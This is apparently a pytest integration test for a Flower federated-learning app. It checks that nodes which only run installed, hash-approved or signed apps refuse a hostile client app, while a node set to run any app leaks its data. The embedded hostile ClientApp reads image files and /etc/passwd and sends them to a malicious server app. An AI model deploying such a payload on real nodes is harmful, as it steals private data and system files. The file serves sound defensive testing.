"""Real SuperNodes that get a hostile app: the same name, code that reads what it can, on import and when it is asked.

One node runs what is installed, one what its owner approved, one what is signed by whom its owner trusts (Flower's own
check), and one anything: there the attack works, so it is one.
"""

import hashlib
import json
import shutil
import tomllib
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat

from tests.support.deployment import PATIENCE, Deployment
from tests.support.flower import COMPLETED, REAL_RUNS, REPOSITORY
from tests.support.simulation import read_json, site_folder

pytestmark = REAL_RUNS
NODES = ("installed", "approved", "signed", "any")
# Reads the node's secrets and sends them.
CLIENT_APP = """
from pathlib import Path
from flwr.app import ConfigRecord, Message, RecordDict
from flwr.clientapp import ClientApp

with open({marker!r}, "a") as file:
    file.write("imported\\n")

app = ClientApp()

@app.query("clients")
def clients(msg, context):
    data = sorted(Path(str(context.node_config["data-path"])).rglob("*.png"))
    record = {{"names": [str(path) for path in data], "image": data[0].read_bytes()}}
    record["system"] = Path("/etc/passwd").read_text()
    return Message(RecordDict({{"stolen": ConfigRecord(record)}}), reply_to=msg)
"""
SERVER_APP = """
import json, time
from flwr.app import Message, RecordDict
from flwr.serverapp import ServerApp

app = ServerApp()

@app.main()
def main(grid, context):
    while len(nodes := list(grid.get_node_ids())) < {nodes}:
        time.sleep(0.2)
    asked = [Message(RecordDict(), dst_node_id=node, message_type="query.clients") for node in nodes]
    got = {{}}
    for reply in grid.send_and_receive(asked, timeout=300):
        loot = reply.error.reason if reply.has_error() else repr({{name: dict(r) for name, r in reply.content.items()}})
        got[str(reply.metadata.src_node_id)] = loot
    with open({loot!r}, "w") as file:
        json.dump(got, file)
"""


@dataclass(frozen=True)
class Attacked:
    """What became of the attack, and of an honest run on the same nodes after it."""

    federation: Deployment
    ids: dict[str, str]
    loot: dict[str, str]
    imports: int
    output: str
    folder: Path

    def json(self, name: str) -> Any:
        return read_json(self.folder, name)


def hostile_app(root: Path, marker: Path, loot: Path) -> Path:
    """Write an app that says in all it is this one."""
    for folder in ("fedstats_app/settings", "fedstats_app/client", "conf"):
        (root / folder).mkdir(parents=True)
    # A pattern of pyproject.toml that matches nothing is an error.
    project = tomllib.loads((REPOSITORY / "pyproject.toml").read_text())
    for name in ("conf/a.toml", *project["tool"]["flwr"]["app"]["fab-exclude"]):
        (root / name).touch()
    for name in ("pyproject.toml", "README.md", "LICENSE"):
        shutil.copy(REPOSITORY / name, root)
    (root / "fedstats_app" / "__init__.py").touch()
    (root / "fedstats_app" / "data.json").write_text("{}")
    (root / "fedstats_app" / "notes.md").touch()
    (root / "fedstats_app" / "client_app.py").write_text(CLIENT_APP.format(marker=str(marker)))
    (root / "fedstats_app" / "server_app.py").write_text(SERVER_APP.format(nodes=len(NODES), loot=str(loot)))
    return root


def trusted_entities(folder: Path) -> Path:
    """Write a file with one key, which has signed nothing."""
    key = Ed25519PrivateKey.generate().public_key().public_bytes(Encoding.OpenSSH, PublicFormat.OpenSSH).decode()
    (folder / "trusted.yaml").write_text(f"fpk_somebody: '{key}'\n")
    return folder / "trusted.yaml"


@pytest.fixture(scope="module")
def attacked(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Attacked]:
    home = tmp_path_factory.mktemp("home")
    federation = Deployment.insecure(home)
    try:
        build = federation.command("flwr", "build", "--app", str(REPOSITORY), cwd=home)
        configs = {
            name: f'data-path="{site_folder(home / name, ("ant", "bee"), seed=seed, images=8)}"'
            for seed, name in enumerate(NODES)
        }
        assert build.wait(PATIENCE) == 0
        (bundle,) = home.glob("*.fab")
        configs["approved"] += f' approved-apps="{hashlib.sha256(bundle.read_bytes()).hexdigest()}"'
        more = {"any": ["--any-app"], "signed": ["--trusted-entities", str(trusted_entities(home))]}
        for name, config in configs.items():
            federation.supernode(name, config, *more.get(name, []))
        marker, loot = home / "marker", home / "loot"
        app = hostile_app(home / "hostile", marker, loot)
        ids = {name: federation.node_id(name) for name in NODES}
        federation.command("flwr", "run", str(app), "demo", "--stream").wait(PATIENCE)
        run = federation.command(
            "flwr", "run", ".", "demo", "--stream", "-c",
            "backbone='random:tiny' input-size=16 method='fedncm' plots=false min-clients=3 settle-seconds=0 "
            f"output-dir='{home}/runs'",
        )  # fmt: skip
        run.wait(PATIENCE)
        output = federation.log(f"flwr-{federation.commands}")
        assert COMPLETED in output, output
        (folder,) = (home / "runs").iterdir()
        lines = marker.read_text().splitlines()
        yield Attacked(federation, ids, json.loads(loot.read_text()), len(lines), output, folder)
    finally:
        federation.end()


def test_a_node_that_runs_any_app_gives_everything(attacked: Attacked) -> None:
    loot = attacked.loot[attacked.ids["any"]]
    assert "any/" in loot and "PNG" in loot and "root:" in loot


@pytest.mark.parametrize("name", ["installed", "approved", "signed"])
def test_others_give_nothing(name: str, attacked: Attacked) -> None:
    loot = attacked.loot[attacked.ids[name]]
    assert not any(secret in loot for secret in ("PNG", "root:", ".png", "/home", str(attacked.folder.parents[1])))


def test_the_hostile_code_was_imported_on_no_other_node(attacked: Attacked) -> None:
    assert attacked.imports == 1


def test_the_node_that_approves_says_what_it_would_take(attacked: Attacked) -> None:
    assert "RefusedApp: this node's approved-apps must have its SHA-256" in attacked.loot[attacked.ids["approved"]]
    assert "query.clients was refused: RefusedApp" in attacked.federation.log("approved")


def test_the_installed_app_answers_the_hostile_server_as_it_would_its_own(attacked: Attacked) -> None:
    assert attacked.loot[attacked.ids["installed"]] == str({"node": {"trains": False, "class-names": ["ant", "bee"]}})


def test_the_honest_app_works_on_all_but_where_it_is_not_signed(attacked: Attacked) -> None:
    clients = [json.loads(line) for line in (attacked.folder / "clients.jsonl").read_text().splitlines()]
    ids = [node for name, node in attacked.ids.items() if name != "signed"]
    assert {str(one["client"]): one["outcome"] for one in clients} == dict.fromkeys(ids, "merged")
    refused = {attacked.ids["signed"]: "The FAB could not be verified."}
    assert attacked.json("results.json")["refused_nodes"] == refused


def test_a_node_that_runs_any_app_is_named_in_the_results_and_in_both_logs(attacked: Attacked) -> None:
    node = attacked.ids["any"]
    assert attacked.json("results.json")["policy"]["nodes_running_any_app"] == [node]
    assert f"[fedstats] node {node} runs ANY app that a server sends (--any-app)" in attacked.output
    log = attacked.federation.log("any")
    assert "WARNING: --any-app: ANY CODE THAT THE SERVER SENDS runs here" in log
    assert "--any-app: CODE THAT THE SERVER SENT runs on this node" in log
